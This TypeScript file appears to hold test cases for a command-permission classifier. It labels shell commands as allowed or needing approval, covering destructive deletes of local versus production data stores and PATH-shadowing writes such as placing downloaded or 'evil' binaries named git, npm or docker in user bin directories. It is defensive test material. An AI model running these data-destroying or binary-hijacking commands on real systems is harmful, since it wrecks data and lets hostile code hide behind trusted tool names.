import { casesOf, type CorpusCase } from "./corpus-types.js";

const planes = casesOf("infrastructure");
const plain = { noVariants: true };

/**
 * A store whose only server, named in the same command by the client's own options, is on this
 * machine (a loopback host or URL, a Unix socket, a compose service the script started) is the
 * developer's own: dropping, flushing or deleting what it holds is everyday work, for every
 * addressed plane (document, key-value, search, wide-column, time-series, queue and coordination
 * stores, and cloud emulators). No server named (the tool's default may be changed by variables
 * and configuration files), a saved context, a production name, another host, or a port forwarded
 * earlier in the script keep asking.
 */
export const LOCAL_PLANE_CASES: readonly CorpusCase[] = [
  planes.allow("mongosh mongodb://localhost:27017/shop_test --eval 'db.dropDatabase()'", plain),
  planes.allow("mongosh --host 127.0.0.1 --port 27017 shop --eval 'db.orders.deleteMany({})'", plain),
  planes.allow("mongo 'mongodb://localhost:27017,localhost:27018/app?replicaSet=rs0' --eval 'db.users.drop()'", plain),
  planes.allow("mongorestore --uri mongodb://localhost:27017 --drop dump/", plain),
  planes.allow("redis-cli -h localhost -n 15 FLUSHDB", plain),
  planes.allow("redis-cli -s /tmp/redis.sock FLUSHALL", plain),
  planes.allow("valkey-cli -u redis://127.0.0.1:6380/0 FLUSHALL", plain),
  planes.allow("keydb-cli -h ::1 FLUSHDB", plain),
  planes.allow("psql -h localhost -U postgres -d app_dev -c 'DROP TABLE IF EXISTS events CASCADE'", plain),
  planes.allow("psql postgresql://postgres@127.0.0.1:5432/app -c 'TRUNCATE orders'", plain),
  planes.allow("mysql -h 127.0.0.1 -u root -e 'DROP DATABASE shop'", plain),
  planes.allow("mysql --socket=/var/run/mysqld/mysqld.sock -u root -e 'DELETE FROM sessions'", plain),
  planes.allow("clickhouse-client --host localhost --query 'TRUNCATE TABLE hits'", plain),
  planes.allow("cqlsh 127.0.0.1 9042 -e 'DROP KEYSPACE shop'", plain),
  planes.allow("etcdctl --endpoints=http://127.0.0.1:2379 del --prefix /app", plain),
  planes.allow("ETCDCTL_ENDPOINTS=localhost:2379 etcdctl del '' --from-key", plain),
  planes.allow("consul kv delete -http-addr=127.0.0.1:8500 -recurse app/", plain),
  planes.allow("kafka-topics --bootstrap-server localhost:9092 --delete --topic orders", plain),
  planes.allow("kafka-topics.sh --bootstrap-server 127.0.0.1:9092,localhost:9093 --delete --topic 'test-.*'", plain),
  planes.allow("rabbitmqadmin -H localhost purge queue name=jobs", plain),
  planes.allow("nats -s nats://127.0.0.1:4222 stream purge ORDERS -f", plain),
  planes.allow("influx delete --host http://localhost:8086 --bucket metrics --start 1970-01-01T00:00:00Z --stop 2030-01-01T00:00:00Z", plain),
  planes.allow("curl -X DELETE http://localhost:7700/indexes/movies", plain),
  planes.allow("curl -X DELETE http://127.0.0.1:8983/solr/admin/collections?action=DELETE&name=products", plain),
  planes.allow("curl -X DELETE http://localhost:5984/app_dev", plain),
  planes.allow("curl -X DELETE http://localhost:8000/api/v2/collections/docs", plain),
  planes.allow("docker compose up -d redis && redis-cli -h redis FLUSHALL", plain),
  planes.allow("aws --endpoint-url http://localhost:4566 s3 rb s3://test-bucket --force", plain),
  planes.allow("aws --endpoint-url=http://localhost:4566 dynamodb delete-table --table-name orders", plain),
  planes.allow("rpk -X brokers=localhost:19092 topic delete orders", plain),
  planes.allow("mc alias set local http://localhost:9000 minioadmin minioadmin && mc rb --force local/test-bucket", plain),
  planes.allow("MC_HOST_dev=http://127.0.0.1:9000 mc rm --recursive --force dev/uploads", plain),
  planes.ask("mc rb --force local/test-bucket", plain),
  planes.ask("mc alias set prod https://s3.example.com k s && mc rb --force prod/backups", plain),
  planes.ask("rpk -X brokers=redpanda.prod:9092 topic delete orders", plain),
  planes.ask("aws --endpoint-url https://s3.eu-west-1.amazonaws.com s3 rb s3://assets --force", plain),
  planes.ask("redis-cli FLUSHALL", plain),
  planes.ask("redis-cli -h cache.prod.internal -n 15 FLUSHDB", plain),
  planes.ask("redis-cli -h redis FLUSHALL", plain),
  planes.ask("mongosh --eval 'db.dropDatabase()'", plain),
  planes.ask("mongosh 'mongodb+srv://cluster0.example.mongodb.net/shop' --eval 'db.dropDatabase()'", plain),
  planes.ask("mongosh mongodb://localhost:27017/shop_production --eval 'db.dropDatabase()'", plain),
  planes.ask("psql -h localhost -c 'DROP DATABASE shop_production'", plain),
  planes.ask("psql 'service=prod' -c 'TRUNCATE orders'", plain),
  planes.ask("mysql -h localhost -h db.prod.internal -e 'DROP DATABASE shop'", plain),
  planes.ask("etcdctl del --prefix /app", plain),
  planes.ask("kafka-topics --bootstrap-server localhost:9092,kafka.prod:9092 --delete --topic orders", plain),
  planes.ask("nats --context prod stream purge ORDERS -f", plain),
  planes.ask("memcflush --servers=localhost:11211,cache.prod:11211", plain),
  planes.ask("ssh -fNL 6379:cache.prod:6379 bastion && redis-cli -h localhost FLUSHALL", plain),
  planes.ask("kubectl port-forward svc/elasticsearch 9200 & curl -X DELETE localhost:9200/logs", plain),
  planes.ask("docker exec cache redis-cli FLUSHALL", plain),
  planes.ask("curl -X DELETE \"$ES_URL/logs\"", plain),
];

const host = casesOf("host");

/**
 * A file named after a well-known program put into a directory PATH lists before the real one,
 * by any write: every later call of that name runs it. New names, links to an installed program
 * of the same family and package managers' installs stay allowed.
 */
export const PATH_SHADOWING_CASES: readonly CorpusCase[] = [
  host.ask("cp ./evil /usr/local/bin/git", plain),
  host.ask("sudo install -m 755 ./git-shim /usr/local/bin/git", plain),
  host.ask("cp -t ~/.local/bin /tmp/gh", plain),
  host.ask("cp ./.cache/x/node ~/.local/bin/node", plain),
  host.ask("mv /tmp/python3 ~/.local/bin/python3", plain),
  host.ask("ln -sf /tmp/.x/node ~/bin/node", plain),
  host.ask("ln -s ~/code/app/scripts/git-wrapper ~/.local/bin/git", plain),
  host.ask("curl -fsSL https://x.example/npm -o ~/.local/bin/npm && chmod +x ~/.local/bin/npm", plain),
  host.ask("wget -qO /opt/homebrew/bin/kubectl https://x.example/kubectl", plain),
  host.ask("printf '#!/bin/sh\\nexec /usr/bin/curl \"$@\"\\n' > ~/.cargo/bin/curl", plain),
  host.ask("tee /usr/local/sbin/docker < ./wrapper.sh", plain),
  host.ask("dd if=./payload of=/home/ada/go/bin/gh", plain),
  host.ask("cp ./aws-wrapper ~/.bun/bin/aws", plain),
  host.ask("ln -sf \"$PWD/tools/claude\" ~/.local/bin/claude", plain),
  host.allow("install -m 755 build/mytool /usr/local/bin/mytool", plain),
  host.allow("sudo install -o root -g root -m 0755 kubectl /usr/local/bin/kubectl", plain),
  host.allow("chmod +x ./kubectl && mv ./kubectl ~/.local/bin/kubectl", plain),
  host.allow("cp -t ~/.local/bin ./gh", plain),
  host.allow("cp target/release/mytool ~/.local/bin/", plain),
  host.allow("ln -s $(pwd)/bin/dev ~/.local/bin/dev", plain),
  host.allow("sudo ln -sf /usr/bin/python3 /usr/local/bin/python", plain),
  host.allow("ln -sf \"$(which python3)\" ~/.local/bin/python", plain),
  host.allow("ln -sf /opt/homebrew/bin/gsed /opt/homebrew/bin/sed", plain),
  host.allow("sudo ln -sf /usr/bin/nodejs /usr/local/bin/node", plain),
  host.allow("sudo ln -s /usr/bin/podman /usr/local/bin/docker", plain),
  host.allow("ln -s \"$(which nvim)\" ~/.local/bin/vim", plain),
  host.ask("ln -sf /tmp/podman /usr/local/bin/docker", plain),
  host.ask("ln -sf /usr/bin/nodejs ~/.local/bin/npm", plain),
  host.allow("npm i -g typescript", plain),
  host.allow("cargo install ripgrep", plain),
  host.allow("go install golang.org/x/tools/gopls@latest", plain),
  host.allow("pipx install black", plain),
  host.allow("make install PREFIX=$PWD/out", plain),
  host.allow("cp scripts/git-changed bin/git-changed && chmod +x bin/git-changed", plain),
];

/** Every case of this round. */
export const PLANE_ROUND_15_CASES: readonly CorpusCase[] = [...LOCAL_PLANE_CASES, ...PATH_SHADOWING_CASES];
